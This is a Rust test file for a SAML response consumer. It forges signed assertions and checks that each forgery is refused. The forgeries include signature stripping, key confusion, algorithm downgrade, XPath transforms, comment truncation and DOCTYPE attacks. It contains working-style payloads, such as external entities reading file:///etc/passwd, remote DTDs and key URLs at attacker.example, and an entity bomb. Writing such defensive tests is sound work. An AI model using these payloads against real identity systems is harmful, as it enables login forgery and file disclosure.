//! Forgeries that do not move elements: no signature, other keys, weak algorithms, other meanings of a signature, and tricks of XML.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use cenote_saml::{Expect, Fault, consume_response, decode_post};

use crate::support::*;

#[test]
fn signature_exclusion_nothing_unsigned_is_believed() {
    assert!(matches!(refused(RESPONSE), Fault::Unsigned { .. }));
    let stripped = SIGNED_ASSERTION.replace(element(&SIGNED_ASSERTION, "ds:Signature"), "");
    assert!(matches!(refused(&stripped), Fault::Unsigned { .. }));
    for empty in [
        "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"/>",
        "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><ds:SignedInfo/><ds:SignatureValue/></ds:Signature>",
    ] {
        assert!(matches!(
            refused(&RESPONSE.replace("<saml:Subject>", &format!("{empty}<saml:Subject>"))),
            Fault::SignatureShape(_)
        ));
    }
    let other_namespace = SIGNED_ASSERTION.replace(
        "http://www.w3.org/2000/09/xmldsig#\"><ds:SignedInfo",
        "urn:not-a-signature\"><ds:SignedInfo",
    );
    assert!(matches!(refused(&other_namespace), Fault::Unsigned { .. }));
}

#[test]
fn what_was_changed_after_signing_is_refused() {
    for (from, to) in [
        ("alice<", "admin<"),
        ("_session1", "_session2"),
        ("staff", "admin"),
        (
            "Version=\"2.0\" IssueInstant=\"2026-11-22T12:00:00Z\"><saml:Issuer>https://idp.example/metadata</saml:Issuer><ds",
            "Version=\"2.0\" Evil=\"\" IssueInstant=\"2026-11-22T12:00:00Z\"><saml:Issuer>https://idp.example/metadata</saml:Issuer><ds",
        ),
        ("<saml:Subject>", " <saml:Subject>"),
    ] {
        assert!(
            matches!(
                refused(&changed(&SIGNED_ASSERTION, from, to)),
                Fault::DigestMismatch { what: "the assertion" }
            ),
            "{from}"
        );
    }
    // A digest that fits the change, and a signature that does not fit the digest.
    let other = sign(
        &RESPONSE.replace("alice", "admin"),
        "_assertion1",
        &Signing { key: "attacker", ..Signing::default() },
    );
    let (forged, genuine) = (
        element(&other, "ds:SignatureValue").to_owned(),
        element(&SIGNED_ASSERTION, "ds:SignatureValue"),
    );
    assert!(matches!(refused(&other.replace(&forged, genuine)), Fault::SignatureMismatch { .. }));
}

#[test]
fn key_confusion_only_the_providers_keys_count() {
    // The attacker's certificate in KeyInfo, its raw key, a URL to fetch it from, a reference to it elsewhere.
    let info = |inner: &str| format!("<ds:KeyInfo>{inner}</ds:KeyInfo>");
    let certificate_b64 = STANDARD.encode(certificate("idp"));
    for key_info in [
        info("<ds:X509Data/>"),
        info("<ds:KeyValue/>"),
        info(&format!(
            "<ds:X509Data><ds:X509Certificate>{certificate_b64}</ds:X509Certificate></ds:X509Data>"
        )),
        info("<ds:RetrievalMethod URI=\"https://attacker.example/key\"/>"),
        info("<ds:KeyName>idp</ds:KeyName>"),
        String::new(),
    ] {
        let xml = sign(
            RESPONSE,
            "_assertion1",
            &Signing { key: "attacker", key_info: &key_info, ..Signing::default() },
        );
        assert!(matches!(refused(&xml), Fault::SignatureMismatch { .. }), "{key_info}");
    }
    // And what KeyInfo holds does not matter where the signature is good.
    for key_info in [
        String::new(),
        info("<ds:KeyName>whatever</ds:KeyName>"),
        info("<!-- x --><x xmlns=\"urn:x\">&lt;</x>").replace("<!-- x -->", ""),
    ] {
        assert_eq!(
            accepted(&sign(
                RESPONSE,
                "_assertion1",
                &Signing { key_info: &key_info, ..Signing::default() }
            ))
            .name_id
            .value,
            "alice"
        );
    }
}

#[test]
fn key_confusion_the_public_key_is_no_hmac_secret() {
    for secret in [certificate("idp"), vector("keys/idp.crt").into_bytes(), public_key("idp")] {
        for bits in ["1", "256", "512"] {
            let method = match bits {
                "1" => "http://www.w3.org/2000/09/xmldsig#hmac-sha1".to_owned(),
                bits => format!("http://www.w3.org/2001/04/xmldsig-more#hmac-sha{bits}"),
            };
            let key = scratch(&secret);
            let unsigned = RESPONSE.replace(
                "<saml:Subject>",
                &format!(
                    "{}<saml:Subject>",
                    template(
                        "_assertion1",
                        &Signing { method: &method, key_info: "", ..Signing::default() }
                    )
                ),
            );
            let signed = xmlsec1(
                &["--sign", "--hmackey", key.to_str().unwrap()],
                &scratch(unsigned.as_bytes()),
            );
            assert!(
                matches!(refused(&signed), Fault::Algorithm { what: "signature algorithm", .. }),
                "{method}"
            );
        }
    }
}

fn public_key(key: &str) -> Vec<u8> {
    let output = std::process::Command::new("openssl")
        .args(["x509", "-pubkey", "-noout", "-in"])
        .arg(path(&format!("keys/{key}.crt")))
        .output();
    output.expect("openssl must be installed").stdout
}

#[test]
fn algorithm_downgrade_is_refused_even_where_the_key_is_right() {
    let weak = [
        Signing { method: "http://www.w3.org/2000/09/xmldsig#rsa-sha1", ..Signing::default() },
        Signing {
            method: "http://www.w3.org/2001/04/xmldsig-more#rsa-sha224",
            ..Signing::default()
        },
        Signing { digest: "http://www.w3.org/2000/09/xmldsig#sha1", ..Signing::default() },
        Signing { digest: "http://www.w3.org/2001/04/xmldsig-more#sha224", ..Signing::default() },
    ];
    for signing in weak {
        let xml = sign(RESPONSE, "_assertion1", &signing);
        assert!(
            xmlsec1_verifies(&xml, "_assertion1", "idp"),
            "{} {}",
            signing.method,
            signing.digest
        );
        assert!(
            matches!(refused(&xml), Fault::Algorithm { .. }),
            "{} {}",
            signing.method,
            signing.digest
        );
    }
    let ecdsa = sign(
        RESPONSE,
        "_assertion1",
        &Signing {
            key: "p256",
            method: "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1",
            ..Signing::default()
        },
    );
    let trusted = [certificate("p256")];
    assert!(matches!(
        refused_by(&ecdsa, &Expect { trusted: &trusted, ..expect() }),
        Fault::Algorithm { .. }
    ));
    // A name that is made up, one with white space, and none.
    for (from, to) in [
        (RSA_SHA256, "none"),
        (RSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256 "),
        (RSA_SHA256, ""),
    ] {
        assert!(matches!(refused(&changed(&SIGNED_ASSERTION, from, to)), Fault::Algorithm { .. }));
    }
    // A signature of one family under the name of another.
    let renamed = changed(
        &SIGNED_ASSERTION,
        RSA_SHA256,
        "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
    );
    assert!(matches!(refused(&renamed), Fault::SignatureMismatch { .. }));
}

#[test]
fn a_signature_that_leaves_something_out_is_refused() {
    let enveloped =
        r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#;
    let xpath = format!(
        r#"{enveloped}<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath></ds:Transform>"#
    );
    let xpath2 = format!(
        r#"{enveloped}<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//*[local-name()='Subject']</f:XPath></ds:Transform>"#
    );
    let base64 =
        r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>"#.to_owned();
    let xslt = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">constant</xsl:template></xsl:stylesheet></ds:Transform>"#.to_owned();
    let none = String::new();
    let canonical_only = format!(r#"<ds:Transform Algorithm="{EXCLUSIVE}"/>"#);
    let reversed = format!("{canonical_only}{enveloped}");
    let thrice = format!("{enveloped}{canonical_only}{canonical_only}");
    let twice_enveloped = format!("{enveloped}{enveloped}");
    for transforms in
        [xpath, xpath2, base64, xslt, none, canonical_only, reversed, thrice, twice_enveloped]
    {
        // Written into a finished message: some of them even xmlsec1 would not sign.
        let attack = changed(&SIGNED_ASSERTION, ENVELOPED_EXCLUSIVE, &transforms);
        let fault = refused(&attack);
        assert!(
            matches!(
                fault,
                Fault::SignatureShape(_) | Fault::Algorithm { .. } | Fault::Unexpected { .. }
            ),
            "{transforms}: {fault}"
        );
    }
    // And one that xmlsec1 does sign and verify.
    let xpath = r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath></ds:Transform>"#;
    let signed =
        sign(RESPONSE, "_assertion1", &Signing { transforms: xpath, ..Signing::default() });
    let attack = changed(&signed, "alice<", "admin<");
    assert!(xmlsec1_verifies(&attack, "_assertion1", "idp"));
    assert!(matches!(refused(&attack), Fault::Algorithm { .. }));
}

#[test]
fn a_reference_must_name_its_own_element_plainly() {
    let enveloped_root = Signing { uri: Some(""), ..Signing::default() };
    for id in ["_response1", "_assertion1"] {
        assert!(
            matches!(refused(&sign(RESPONSE, id, &enveloped_root)), Fault::SignatureShape(_)),
            "empty URI in {id}"
        );
    }
    for uri in [
        "",
        "#",
        "#_response1",
        "#xpointer(/)",
        "#xpointer(id('_assertion1'))",
        "_assertion1",
        "#_assertion1 ",
        "#%5fassertion1",
        "cid:x",
        "https://attacker.example/a.xml",
        "file:///etc/passwd",
        "Cargo.toml",
    ] {
        let attack = changed(&SIGNED_ASSERTION, "URI=\"#_assertion1\"", &format!("URI=\"{uri}\""));
        assert!(matches!(refused(&attack), Fault::SignatureShape(_)), "{uri}");
    }
    assert!(matches!(
        refused(&changed(&SIGNED_ASSERTION, " URI=\"#_assertion1\"", "")),
        Fault::SignatureShape(_)
    ));
    // One reference, no more and no less: of two, which one covers what is read?
    let reference = element(&SIGNED_ASSERTION, "ds:Reference").to_owned();
    for several in [
        format!("{reference}{reference}"),
        String::new(),
        format!("<ds:Manifest>{reference}</ds:Manifest>"),
    ] {
        assert!(matches!(
            refused(&changed(&SIGNED_ASSERTION, &reference, &several)),
            Fault::SignatureShape(_) | Fault::Unexpected { .. }
        ));
    }
}

#[test]
fn a_signature_has_no_parts_that_nobody_expects() {
    let changes = [
        ("</ds:Signature>", "<ds:Object><x/></ds:Object></ds:Signature>"),
        ("<ds:SignedInfo>", "<x/><ds:SignedInfo>"),
        ("<ds:SignedInfo>", "<ds:SignedInfo>text"),
        ("<ds:SignedInfo>", "<!-- --><ds:SignedInfo>"),
        ("<ds:DigestValue>", "<ds:DigestValue><!-- x -->"),
        ("<ds:DigestValue>", "<ds:DigestValue>AAAA</ds:DigestValue><ds:DigestValue>"),
        ("<ds:SignatureValue>", "<ds:SignatureValue>AAAA</ds:SignatureValue><ds:SignatureValue>"),
        ("<ds:KeyInfo>", "<ds:KeyInfo/><ds:KeyInfo>"),
        ("</ds:SignedInfo>", "</ds:SignedInfo><ds:SignedInfo/>"),
    ];
    for (from, to) in changes {
        let fault = refused(&changed(&SIGNED_ASSERTION, from, to));
        assert!(matches!(fault, Fault::SignatureShape(_)), "{to}: {fault}");
    }
    let truncated = format!(
        r#"<ds:SignatureMethod Algorithm="{RSA_SHA256}"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>"#
    );
    assert!(matches!(
        refused(&changed(
            &SIGNED_ASSERTION,
            &format!(r#"<ds:SignatureMethod Algorithm="{RSA_SHA256}"/>"#),
            &truncated
        )),
        Fault::SignatureShape(_)
    ));
    // Names of other namespaces are no parts.
    let foreign =
        changed(&SIGNED_ASSERTION, "<ds:SignedInfo>", "<ds:SignedInfo xmlns:ds=\"urn:evil\">");
    assert!(matches!(refused(&foreign), Fault::Unexpected { .. }));
}

#[test]
fn junk_for_base64_is_refused_at_each_place() {
    for name in ["ds:DigestValue", "ds:SignatureValue"] {
        let whole = element(&SIGNED_ASSERTION, name).to_owned();
        for junk in
            ["", "!!!!", "AAA", "A A A A = =", "\u{fffd}", "AAAA====", "<![CDATA[AAAA]]>", "-_-_"]
        {
            let attack = SIGNED_ASSERTION.replace(&whole, &format!("<{name}>{junk}</{name}>"));
            let fault = refused(&attack);
            assert!(
                matches!(
                    fault,
                    Fault::Encoding(_)
                        | Fault::DigestMismatch { .. }
                        | Fault::SignatureMismatch { .. }
                ),
                "{name} {junk}: {fault}"
            );
        }
    }
    for junk in ["", "!!!!", "AAA", "PHg+=PC94Pg==", "PD94", "\u{1f600}"] {
        let read = decode_post(junk).and_then(|message| consume_response(&message, &expect()));
        assert!(matches!(read, Err(Fault::Encoding(_) | Fault::NotXml(_))), "{junk}: {read:?}");
    }
}

#[test]
fn comment_truncation_names_are_read_whole() {
    // The provider signs what it signs; a comment put in on the way does not change the canonical form.
    for (place, with_comment) in [
        ("alice</saml:NameID>", "ali<!-- -->ce</saml:NameID>"),
        ("alice</saml:NameID>", "<!--x-->a<!---->l<!--y-->ice<!----></saml:NameID>"),
    ] {
        let attack = changed(&SIGNED_ASSERTION, place, with_comment);
        assert!(xmlsec1_verifies(&attack, "_assertion1", "idp"));
        assert_eq!(accepted(&attack).name_id.value, "alice");
    }
    let registered = sign(
        &changed(
            RESPONSE,
            "alice</saml:NameID>",
            "admin@victim.example.attacker.example</saml:NameID>",
        ),
        "_assertion1",
        &Signing::default(),
    );
    let attack = changed(&registered, "victim.example.", "victim.example<!-- -->.");
    assert_eq!(accepted(&attack).name_id.value, "admin@victim.example.attacker.example");
    let attack = changed(
        &SIGNED_ASSERTION,
        "<saml:AttributeValue>staff",
        "<saml:AttributeValue>st<!-- -->aff",
    );
    assert_eq!(accepted(&attack).attributes[1].values[0], "staff");
    // In what is compared too.
    let attack = changed(
        &SIGNED_ASSERTION,
        "<saml:Audience>urn:amazon",
        "<saml:Audience>urn:<!-- -->amazon",
    );
    assert_eq!(accepted(&attack).name_id.value, "alice");
    // CDATA is text like any other.
    let attack = changed(
        &SIGNED_ASSERTION,
        "alice</saml:NameID>",
        "<![CDATA[al]]>i<![CDATA[ce]]></saml:NameID>",
    );
    assert!(xmlsec1_verifies(&attack, "_assertion1", "idp"));
    assert_eq!(accepted(&attack).name_id.value, "alice");
}

#[test]
fn entity_expansion_no_doctype_is_read() {
    let bomb = r#"<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>"#;
    let external = r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#;
    let parameter = r#"<!DOCTYPE r [<!ENTITY % x SYSTEM "https://attacker.example/x.dtd"> %x;]>"#;
    let ids = r#"<!DOCTYPE r [<!ATTLIST saml:Subject evil ID #IMPLIED>]>"#;
    let defaults = r#"<!DOCTYPE r [<!ATTLIST saml:NameID Format CDATA "evil">]>"#;
    for doctype in [
        bomb,
        external,
        parameter,
        ids,
        defaults,
        "<!DOCTYPE r>",
        "<!DOCTYPE r SYSTEM \"https://attacker.example/x.dtd\">",
    ] {
        for head in ["", "<?xml version=\"1.0\"?>", "<!-- x -->", "\u{feff}"] {
            let attack = format!("{head}{doctype}{}", SIGNED_ASSERTION.as_str());
            assert_eq!(refused(&attack), Fault::Forbidden("a DOCTYPE"), "{head}{doctype}");
        }
    }
    for attack in [
        "alice&evil;</saml:NameID>",
        "&x;</saml:NameID>",
        "&#0;</saml:NameID>",
        "&#xD800;</saml:NameID>",
        "&#1;</saml:NameID>",
        "&amp</saml:NameID>",
    ] {
        assert!(
            matches!(
                refused(&changed(&SIGNED_ASSERTION, "alice</saml:NameID>", attack)),
                Fault::NotXml(_)
            ),
            "{attack}"
        );
    }
    let lower = format!("<!doctype r>{}", SIGNED_ASSERTION.as_str());
    assert!(matches!(refused(&lower), Fault::NotXml(_)));
}

#[test]
fn processing_instructions_and_foreign_encodings_are_refused() {
    let attack = changed(&SIGNED_ASSERTION, "alice</saml:NameID>", "ali<?x y?>ce</saml:NameID>");
    assert_eq!(refused(&attack), Fault::Forbidden("a processing instruction"));
    let declared =
        format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{}", SIGNED_ASSERTION.as_str());
    assert_eq!(accepted(&declared).name_id.value, "alice");
    // A reader that believes the declaration reads other letters than we do.
    let latin = sign(&changed(RESPONSE, "alice", "al\u{ef}ce"), "_assertion1", &Signing::default());
    let latin = changed(&latin, "&#xEF;", "\u{ef}");
    assert!(matches!(
        refused(&format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{latin}")),
        Fault::Encoding(_)
    ));
    assert!(matches!(refused_bytes(b"<samlp:Response \xff/>"), Fault::Encoding(_)));
    let utf16: Vec<u8> = "\u{feff}<a/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(matches!(refused_bytes(&utf16), Fault::Encoding(_)));
}

fn refused_bytes(bytes: &[u8]) -> Fault {
    decode_post(&STANDARD.encode(bytes))
        .and_then(|message| consume_response(&message, &expect()))
        .expect_err("refused")
}

#[test]
fn ids_that_others_may_read_as_something_else_are_refused() {
    for id in [
        "",
        " ",
        "_a b",
        "_a\u{a0}b",
        "xpointer(/)",
        "xpointer(id(_x))",
        "_a#b",
        "_a%20b",
        "_a'b",
        "_a/b",
        &"x".repeat(300),
    ] {
        let xml = RESPONSE.replace("_assertion1", id);
        let signature = element(&SIGNED_ASSERTION, "ds:Signature").replace("_assertion1", id);
        let attack = xml.replace("<saml:Subject>", &format!("{signature}<saml:Subject>"));
        assert!(matches!(refused(&attack), Fault::Invalid { what: "ID", .. }), "{id}");
    }
    // Letters of any script are letters, compared one by one: no two spellings are the same id.
    let composed =
        sign(&RESPONSE.replace("_assertion1", "_\u{e9}"), "_\u{e9}", &Signing::default());
    assert_eq!(accepted(&composed).id, "_\u{e9}");
    let attack = changed(&composed, "ID=\"_&#xE9;\"", "ID=\"_e\u{301}\"");
    assert!(matches!(refused(&attack), Fault::SignatureShape(_) | Fault::Invalid { .. }));
}

#[test]
fn messages_that_only_cost_time_are_refused_early() {
    let limit = "x".repeat(100_001);
    assert!(matches!(decode_post(&limit), Err(Fault::TooLarge { limit: 100_000, .. })));
    let deep = format!("{}{}", "<a>".repeat(200), "</a>".repeat(200));
    assert!(matches!(
        refused(&changed(
            RESPONSE,
            "<samlp:Status>",
            &format!("<samlp:Extensions>{deep}</samlp:Extensions><samlp:Status>")
        )),
        Fault::NotXml(_)
    ));
    // What costs more than its length: attributes of one element, prefixes in scope, elements, prefixes that every element declares.
    let extended = |inside: &str| {
        let fault = refused(&changed(
            RESPONSE,
            "<samlp:Status>",
            &format!("<samlp:Extensions>{inside}</samlp:Extensions><samlp:Status>"),
        ));
        assert!(matches!(fault, Fault::TooLarge { .. }), "{fault}");
    };
    let attributes: String = (0..65).map(|n| format!(" a{n}='>\"<'")).collect();
    extended(&format!("<!-- <a' --><![CDATA[<a ']]><a{attributes}/>"));
    let nested: String = (0..65).map(|n| format!("<a xmlns:a{n}=\"x\"/>")).collect();
    extended(&nested);
    extended(&"<a/>".repeat(5000));
    let prefixes = format!(
        "<ds:Transform Algorithm=\"{EXCLUSIVE}\"><ec:InclusiveNamespaces xmlns:ec=\"{EXCLUSIVE}\" PrefixList=\"{}\"/></ds:Transform>",
        "p ".repeat(21)
    );
    let fault = refused(&changed(
        &SIGNED_ASSERTION,
        &format!("<ds:Transform Algorithm=\"{EXCLUSIVE}\"/>"),
        &prefixes,
    ));
    assert!(matches!(fault, Fault::TooLarge { what: "PrefixList", .. }));

    let many = "<saml:Attribute Name=\"@\"/>".replace('@', "x");
    let many: String = (0..201).map(|n| many.replace("\"x\"", &format!("\"x{n}\""))).collect();
    let fault = refused(&signed_after(
        "<saml:AttributeStatement>",
        &format!("<saml:AttributeStatement>{many}"),
    ));
    assert!(matches!(fault, Fault::TooLarge { what: "the list of attributes", .. }));
    let bearers =
        "<saml:SubjectConfirmation Method=\"urn:oasis:names:tc:SAML:2.0:cm:bearer\"/>".repeat(11);
    assert!(matches!(
        refused(&signed_after("</saml:Subject>", &format!("{bearers}</saml:Subject>"))),
        Fault::TooLarge { .. }
    ));
    let name = "x".repeat(1025);
    assert!(matches!(
        refused(&signed_after("alice</saml:NameID>", &format!("{name}</saml:NameID>"))),
        Fault::TooLarge { what: "NameID", .. }
    ));
}
